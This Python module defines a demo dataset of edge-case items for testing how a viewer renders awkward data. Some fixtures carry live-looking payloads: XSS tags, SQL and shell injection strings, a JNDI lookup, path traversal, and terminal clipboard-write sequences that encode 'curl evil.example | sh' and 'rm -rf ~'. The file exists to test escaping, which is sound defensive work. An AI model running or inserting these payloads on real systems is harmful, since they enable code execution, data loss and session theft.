"""The ``edge-cases`` demo dataset: items that stress a viewer.

Each entry of :data:`EDGE_CASES` is ``(case, build)``; ``build()`` returns the keyword arguments
of one ``SeedItem``. Builders run lazily, so the big values (a 200,000-character line, a
10,000-element array) exist only while the loader stores them. Every item's metadata is
``{"case": ..., "description": ...}`` unless the metadata itself is the thing under test; then
the input is ``{"case": ..., "description": ...}`` instead (and for the all-null item the case
is in ``ref_source_id``). Exactly one item is soft-deleted (case ``soft-deleted-item``).

Strings here are data for a viewer to show, never to interpret: they hold Rich markup, ANSI
and OSC escape sequences, HTML and script tags on purpose.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

Build = Callable[[], dict[str, Any]]
EDGE_CASES: list[tuple[str, Build]] = []

ESC = "\x1b"
BEL = "\x07"


def _case(name: str, description: str, **fields: Any) -> None:
    """Register a case whose metadata names it; ``fields`` may hold callables (built lazily)."""

    def build() -> dict[str, Any]:
        # a fresh copy per call, so a caller that mutates an item cannot change the next run
        out = {k: (v() if callable(v) else copy.deepcopy(v)) for k, v in fields.items()}
        meta = out.pop("extra_metadata", {})
        out.setdefault("input", None)
        out.setdefault("output", None)
        out["metadata"] = {"case": name, "description": description, **meta}
        return out

    EDGE_CASES.append((name, build))


def _case_meta(name: str, description: str, metadata: Any, output: Any = None) -> None:
    """Register a case whose metadata is the value under test (the input names the case)."""

    def build() -> dict[str, Any]:
        label = {"case": name, "description": description}
        return {"input": label, "output": output, "metadata": copy.deepcopy(metadata)}

    EDGE_CASES.append((name, build))


def _nest_objects(depth: int) -> Any:
    value: Any = {"leaf": f"you are {depth} levels deep"}
    for level in range(depth - 1, 0, -1):
        value = {f"level_{level}": value}
    return value


def _nest_arrays(depth: int) -> Any:
    value: Any = ["bottom"]
    for _ in range(depth - 1):
        value = [value]
    return value


def _nest_mixed(depth: int) -> Any:
    value: Any = "bottom"
    for level in range(depth, 0, -1):
        value = {"a": [value, level]} if level % 2 else [{"i": level, "v": value}]
    return value


# --- nulls and empty values --------------------------------------------------------------
_case("null-input", "input is JSON null", output={"answer": "output is present"})
_case("null-output", "output is JSON null", input={"question": "input is present"})
_case_meta("null-metadata", "metadata is JSON null", None, output="output is present")
EDGE_CASES.append(
    (
        "all-null",
        lambda: {
            "input": None,
            "output": None,
            "metadata": None,
            "ref_source_id": "edge-case:all-null (input, output and metadata are null)",
        },
    )
)
_case("empty-string", "input and output are empty strings", input="", output="")
_case("empty-object", "input and output are empty objects", input={}, output={})
_case("empty-array", "input and output are empty arrays", input=[], output=[])
_case_meta("empty-metadata-object", "metadata is an empty object", {}, output={})
_case(
    "empty-values-nested",
    "empty string, object, array and null as values inside an object",
    input={"s": "", "o": {}, "a": [], "n": None, "nested": {"s": "", "deeper": {"a": [[], {}]}}},
)

# --- top-level JSON types ----------------------------------------------------------------
_case(
    "top-level-string",
    "input and output are bare strings",
    input="just a string",
    output="a bare string reply",
)
_case("top-level-number", "input is an integer, output a float", input=42, output=-3.25e-7)
_case("top-level-boolean", "input is true, output is false", input=True, output=False)
_case(
    "top-level-array",
    "input and output are arrays of mixed types",
    input=[1, "two", 3.0, None, True, {"six": 6}, [7]],
    output=["ok"],
)
_case_meta(
    "metadata-is-array",
    "metadata is an array, not an object",
    ["tag-a", "tag-b", {"nested": True}],
    output="fine",
)
_case_meta("metadata-is-string", "metadata is a bare string", "just a string as metadata")
_case(
    "zero-and-false",
    'falsy values that are not null: 0, -0.0, false, "", "0"',
    input={"zero": 0, "neg_zero": -0.0, "false": False, "empty": "", "zero_string": "0"},
    output=0,
)

# --- size and shape ----------------------------------------------------------------------
_case("deep-nesting-objects", "objects nested 60 levels deep", input=lambda: _nest_objects(60))
_case("deep-nesting-arrays", "arrays nested 60 levels deep", input=lambda: _nest_arrays(60))
_case(
    "deep-nesting-mixed",
    "objects and arrays alternating, 60 levels",
    input=lambda: _nest_mixed(60),
    output=lambda: _nest_objects(60),
)
_case(
    "array-10000",
    "an array of 10,000 small objects",
    input=lambda: [{"i": i, "sq": i * i, "even": i % 2 == 0} for i in range(10_000)],
)
_case(
    "array-10000-numbers",
    "an array of 10,000 integers as output",
    input={"question": "List the first 10,000 non-negative integers."},
    output=lambda: list(range(10_000)),
)
_case(
    "object-5000-keys",
    "one object with 5,000 keys",
    input=lambda: {f"key_{i:04d}": i for i in range(5_000)},
)
_case(
    "long-line-200k",
    "a single 200,000-character line with no spaces or newlines",
    input=lambda: {"text": ("0123456789abcdefghij" * 10_000)},
    output="short output",
)
_case(
    "long-line-200k-words",
    "a single 200,000-character line of words, no newlines",
    input=lambda: ("lorem ipsum dolor sit amet consectetur " * 5_200)[:200_000],
)
_case(
    "many-lines",
    "a string with 5,000 short lines",
    input=lambda: "\n".join(f"line {i}: the quick brown fox" for i in range(1, 5_001)),
)
_case(
    "long-conversation",
    "a chat with 400 messages",
    input=lambda: {
        "messages": [
            {"role": "user" if i % 2 == 0 else "assistant", "content": f"Message {i + 1}: ok."}
            for i in range(400)
        ]
    },
    output={"role": "assistant", "content": "That was a long chat."},
)
_case(
    "base64-blob",
    "a ~100 KB base64 data URL in one string",
    input=lambda: {"image": "data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAA" * 4_200},
)

# --- unicode ----------------------------------------------------------------------------
_case(
    "emoji",
    "emoji incl. ZWJ sequences, flags, skin tones, keycaps and variation selectors",
    input={
        "zwj": "family 👨‍👩‍👧‍👦, technologist 🧑🏽‍💻, rainbow flag 🏳️‍🌈, pirate 🏴‍☠️",
        "flags": "🇯🇵 🇺🇦 🇧🇷 🇿🇦 🇪🇺 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
        "skin_tones": "👍 👍🏻 👍🏽 👍🏿",
        "keycaps": "1️⃣ 2️⃣ #️⃣ *️⃣",
        "vs16": "❤ vs ❤️, ☺ vs ☺️",
        "🔑 emoji key 🗝️": "emoji in a key",
    },
    output="Great question! 🎉🚀✨ " + "😀" * 200,
)
_case(
    "cjk",
    "Chinese, Japanese and Korean text, including full-width characters",
    input={
        "zh": "请帮我查询订单状态，订单号是 BW-1234567。谢谢！",
        "ja": "注文した商品がまだ届きません。配送状況を教えてください。ｶﾀｶﾅ 半角",
        "ko": "주문한 상품이 아직 도착하지 않았습니다. 확인 부탁드립니다.",
        "fullwidth": "ＦＵＬＬＷＩＤＴＨ　ＴＥＸＴ　１２３",
    },
    output="您的订单已发货，预计三天内送达。",
)
_case(
    "rtl-arabic",
    "Arabic text (right to left)",
    input="مرحبا، أين طلبي؟ لقد طلبته منذ أسبوعين.",
    output="طلبك في الطريق وسيصل يوم الخميس.",
)
_case(
    "rtl-hebrew",
    "Hebrew text (right to left)",
    input="שלום, ההזמנה שלי עדיין לא הגיעה.",
    output="ההזמנה שלך תגיע מחר.",
)
_case(
    "mixed-direction",
    "right-to-left and left-to-right text mixed in one string, with numbers and punctuation",
    input="Order BW-1234567 (طلب رقم ١٢٣٤٥٦٧) shipped via DHL — משלוח 42 ₪, total $19.99!",
    output={"ar": "السعر 19.99 USD للطلب BW-1234567", "he": "מספר הזמנה: BW-1234567."},
)
_case(
    "bidi-controls",
    "explicit bidi controls (RLO/LRO/PDF/isolates) that can visually reorder text",
    input="access level: \u202euser\u202c admin \u2066isolate\u2069 \u202dforced LTR\u202c",
    output="if (isAdmin) { /* \u202e } \u2066 begin admins only */ }",
)
_case(
    "zero-width-and-invisible",
    "zero-width space/joiner/non-joiner, BOM, word joiner, soft hyphen",
    input="\ufeffstarts with BOM; zero\u200bwidth\u200cspaces\u200dhere\u2060; soft\u00adhyphen",
    output="\u200b",
)
_case(
    "combining-marks",
    "zalgo text and decomposed vs precomposed accents",
    input="Z̴̡̛a̶̢̛l̸̨̛g̵̡̛o̷̢̕ t̶̛e̷͠x̷̕t̶͝; é (precomposed) vs é (e + U+0301)",
    output="Ǫ̵̧̹̔ḵ̸̓",
)
_case(
    "astral-characters",
    "characters outside the BMP (no surrogates): math letters, "
    "hieroglyphs, ancient scripts, the last code point",
    input="𝕳𝖊𝖑𝖑𝖔 𝒲𝑜𝓇𝓁𝒹 𓀀𓁐𓂀 𐌰𐌱𐌲 🀄🂡 𠜎𠜱𠝹 \U0010fffd",
    output="𝟘𝟙𝟚",
)
_case(
    "unicode-line-separators",
    "U+2028/U+2029 and NEL inside strings (valid JSON, break JS)",
    input="line\u2028separator, paragraph\u2029separator, next\u0085line",
)

# --- markup and escapes that must never be interpreted -----------------------------------
_case(
    "rich-markup",
    "Rich console markup that a terminal viewer must show literally",
    input={
        "bold": "[bold red]alert[/]: your order failed",
        "link": "[link=https://example.com/phish]click here[/link] to verify",
        "closing_only": "[/] and [/bold] with nothing open",
        "unbalanced": "[bold]never closed, [red]also open, ]]stray[[ [",
        "emoji_code": ":warning: :smiley: [blink]blinking[/blink]",
        "escaped": r"\[not markup] and \\[bold]escaped backslash[/bold]",
        "style_soup": "[on #ff0000][reverse][strike]x[/strike][/reverse][/on #ff0000]",
    },
    output="[green]✔ resolved[/green] [dim](ticket #123)[/dim]",
)
_case(
    "ansi-escapes",
    "ANSI/VT escape sequences: colors, clear screen, cursor moves, bell, backspace, CR",
    input={
        "colors": f"{ESC}[31mred{ESC}[0m {ESC}[1;32mbold green{ESC}[0m {ESC}[38;5;208m256{ESC}[m",
        "clear_screen": f"before{ESC}[2J{ESC}[Hafter clear",
        "cursor": f"{ESC}[10;10Hmoved {ESC}[3Aup {ESC}[?25lhidden cursor {ESC}7saved{ESC}8",
        "alt_screen": f"{ESC}[?1049hswitched to alternate screen",
        "bell": f"ding{BEL}ding{BEL}",
        "backspace": "passw\b\b\b\b\bXXXXX",
        "carriage_return": "visible text\roverwritten",
        "erase_line": f"secret{ESC}[2K{ESC}[1Gnothing to see",
    },
    output=f"{ESC}[5m{ESC}[41mBLINKING RED{ESC}[0m",
)
_case(
    "osc-sequences",
    "OSC 8 hyperlinks, OSC 52 clipboard write, OSC 0 window title",
    input={
        "hyperlink": f"{ESC}]8;;https://evil.example/{BEL}harmless-looking link{ESC}]8;;{BEL}",
        "hyperlink_st": f"{ESC}]8;;https://evil.example/{ESC}\\link with ST{ESC}]8;;{ESC}\\",
        "clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}(clipboard write)",
        "title": f"{ESC}]0;pwned window title{BEL}text",
    },
    output=f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
)
_case(
    "html-injection",
    "HTML and script that a notebook viewer must escape",
    input={
        "script": "<script>alert(1)</script>",
        "img": '<img src=x onerror="alert(document.cookie)">',
        "svg": "<svg/onload=alert(2)>",
        "iframe": '<iframe src="javascript:alert(3)"></iframe>',
        "close_tags": "</td></tr></table></div></pre><b>escaped?</b>",
        "entities": "&lt;b&gt; &amp;amp; &quot;quoted&quot; &#x27;apos&#x27; &nbsp;&copy;",
        "style": "<style>body{display:none}</style>",
        "attr_break": '" onmouseover="alert(4)" x="',
    },
    output="<b>bold?</b> & <i>italic?</i>",
)
_case(
    "markdown",
    "Markdown with headings, tables and code fences",
    input="# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n"
    "> quote\n\n- [ ] task\n\n**bold** _italic_ `code` [link](https://example.com)",
    output='```json\n{"not": "parsed"}\n```',
)
_case(
    "template-and-injection-strings",
    "strings that look like code: SQL injection, format "
    "strings, template syntax, shell, path traversal",
    input={
        "sql": "'; DROP TABLE dataset_items; --",
        "format": "{0} %s %n %x {item.__class__}",
        "template": "{{7*7}} ${7*7} <%= 7*7 %> ${jndi:ldap://x.example/a}",
        "shell": "$(rm -rf ~) `whoami` && echo pwned",
        "path": "../../../../etc/passwd",
    },
)
_case(
    "json-in-string",
    "strings that contain JSON, double-encoded",
    input='{"looks": "like JSON", "but": ["is", "a", "string"]}',
    output='"{\\"double\\": \\"encoded\\"}"',
)
_case(
    "tabs-and-crlf",
    "tabs, CRLF and lone CR line endings",
    input="col1\tcol2\tcol3\r\nval1\tval2\tval3\r\nold mac\rline",
    output="\t\tindented",
)

# --- numbers ------------------------------------------------------------------------------
_case(
    "big-integers",
    "integers beyond 2^53 that must not be rounded",
    input={
        "two_pow_53_plus_1": 9007199254740993,
        "two_pow_64": 18446744073709551616,
        "thirty_digits": 123456789012345678901234567890,
        "negative": -9007199254740993,
        "negative_thirty_digits": -123456789012345678901234567890,
        "int64_max": 9223372036854775807,
        "int64_min": -9223372036854775808,
    },
    output=9007199254740993,
)
_case(
    "float-precision",
    "floats with many significant digits and extreme exponents",
    input={
        "point_three": 0.30000000000000004,
        "pi": 3.141592653589793,
        "max": 1.7976931348623157e308,
        "min_subnormal": 5e-324,
        "min_normal": 2.2250738585072014e-308,
        "big_exponent": 1e21,
        "almost_int": 123456789.12345679,
        "negative_zero": -0.0,
    },
    output=0.1,
)
_case(
    "numeric-strings",
    "strings that look like numbers, booleans and null",
    input={
        "leading_zero": "00123",
        "big": "9007199254740993",
        "nan": "NaN",
        "inf": "Infinity",
        "true": "true",
        "null": "null",
        "hex": "0x1F",
        "exp": "1e400",
    },
)

# --- keys ---------------------------------------------------------------------------------
_case(
    "weird-keys",
    "keys that are empty or contain dots, brackets, quotes, slashes and spaces",
    input={
        "": "empty key",
        " ": "space key",
        ".": "dot",
        "a.b.c": "dots like a path",
        "a[0]": "brackets like an index",
        '["x"]': "brackets and quotes",
        "'single'": "single quotes",
        '"double"': "double quotes",
        "back\\slash": "backslash",
        "/slash/": "slashes",
        "$ref": "JSON reference",
        "__proto__": "prototype pollution",
        "constructor": "constructor",
        "key with spaces": "spaces",
        "tab\tkey": "tab",
        "new\nline": "newline in key",
        "10": "numeric",
        "2": "numeric, sorts before 10 as a string",
        "1": "numeric",
        "Key": "case",
        "key": "differs only by case",
    },
    output={"": {"": {"": "empty keys all the way down"}}},
)
_case(
    "long-keys",
    "keys of 1,000 and 10,000 characters",
    input=lambda: {"k" * 1_000: "1,000-char key", "long_" + "x" * 9_995: "10,000-char key"},
)
_case(
    "unicode-keys",
    "keys in other scripts and with emoji",
    input={"名前": "CJK key", "الاسم": "Arabic key", "🔥": "emoji key", "ключ": "Cyrillic"},
)

# --- control characters and whitespace ---------------------------------------------------
_case(
    "control-characters",
    "null bytes and other C0/C1 control characters inside strings and keys",
    input={
        "null_byte": "before\x00after",
        "c0": "".join(chr(c) for c in range(32)),
        "delete": "del\x7fete",
        "c1": "\x80\x85\x9b\x9f",
        "key\x00with_null": "null byte in a key",
        "vertical_tab_form_feed": "a\x0bb\x0cc",
    },
    output="\x00",
    extra_metadata={"note": "PostgreSQL jsonb (used by PostHog) rejects \\u0000 in text"},
)
_case(
    "whitespace-only",
    "strings of only spaces, tabs, newlines and Unicode spaces",
    input={
        "spaces": "     ",
        "tabs_newlines": "\t\n\t\n",
        "nbsp": "\u00a0\u00a0",
        "unicode_spaces": "\u2002\u2003\u2009\u3000\u205f",
    },
    output="   ",
)

# --- ref fields -------------------------------------------------------------------------
_case(
    "ref-trace-id-255",
    "ref_trace_id of exactly 255 characters (the maximum)",
    input={"question": "long trace id"},
    ref_trace_id="trace-" + "0123456789abcdef" * 15 + "x" * 9,
    ref_timestamp="2026-01-15T09:30:00.000000Z",
    ref_source_id="src-" + "f" * 251,
)
_case(
    "ref-only-trace-id",
    "only ref_trace_id is set: no trace link can be built",
    input="only a trace id",
    ref_trace_id="0198f3c2-7a41-7c2e-9b1d-5e6f7a8b9c0d",
)
_case(
    "ref-timestamp-without-trace",
    "ref_timestamp and ref_source_id without a trace id",
    input="no trace id",
    ref_timestamp="2026-02-01T00:00:00.000000Z",
    ref_source_id="0198f3c2-7a41-7c2e-9b1d-5e6f7a8b9c0d",
)
_case(
    "ref-source-is-trace",
    "the whole trace was saved: ref_source_id equals ref_trace_id",
    input="whole trace",
    ref_trace_id="9f86d081884c7d659a2feaa0c55ad015",
    ref_timestamp="2026-01-20T17:45:12.345678Z",
    ref_source_id="9f86d081884c7d659a2feaa0c55ad015",
)
_case(
    "ref-url-special-characters",
    "ref ids with spaces, slashes, ?, &, #, % and unicode (a trace link must URL-encode them)",
    input="odd ids",
    ref_trace_id="trace/with spaces?and=query&more#frag%20ü",
    ref_timestamp="2026-02-10T23:59:59.999999Z",
    ref_source_id="span:1/2?x=1&y=#2",
)
_case(
    "ref-timestamp-epoch",
    "ref_timestamp at the Unix epoch",
    input="epoch",
    ref_trace_id="epoch-trace",
    ref_timestamp="1970-01-01T00:00:00.000000Z",
    ref_source_id="epoch-event",
)
_case(
    "ref-timestamp-far-future",
    "ref_timestamp on the last microsecond of year 9999",
    input="far future",
    ref_trace_id="future-trace",
    ref_timestamp="9999-12-31T23:59:59.999999Z",
    ref_source_id="future-event",
)
_case(
    "ref-timestamp-leap-day",
    "ref_timestamp on a leap day, whole seconds",
    input="leap day",
    ref_trace_id="leap-trace",
    ref_timestamp="2024-02-29T12:00:00.000000Z",
    ref_source_id="leap-event",
)
_case(
    "ref-old-field-names",
    "metadata mentions the old names ref_trace_timestamp/ref_span_id",
    input="legacy",
    ref_trace_id="legacy-trace",
    ref_timestamp="2025-09-05T12:34:56.123456Z",
    ref_source_id="legacy-span",
    extra_metadata={
        "ref_trace_timestamp": "2025-09-05T12:34:56.123456Z",
        "ref_span_id": "legacy-span",
    },
)

# --- everything at once, and deletion ------------------------------------------------------
_case(
    "kitchen-sink",
    "a realistic item whose fields mix several of the hazards above",
    input={
        "messages": [
            {"role": "system", "content": "You are a helpful assistant. Never output [bold]."},
            {"role": "user", "content": f"Why is my terminal {ESC}[31mred{ESC}[0m? 🤔 <b>help</b>"},
        ]
    },
    output={"role": "assistant", "content": "Because of `\\x1b[31m`: an ANSI colour code. [/]"},
    ref_trace_id="0198f3c2-7a41-7c2e-9b1d-5e6f7a8b9c0e",
    ref_timestamp="2026-02-09T08:15:30.250000Z",
    ref_source_id="0198f3c2-7a41-7c2e-9b1d-5e6f7a8b9c0f",
)
_case(
    "soft-deleted-item",
    "this item is soft-deleted: the API never lists it",
    input="you should not see this through the API",
    deleted=True,
)
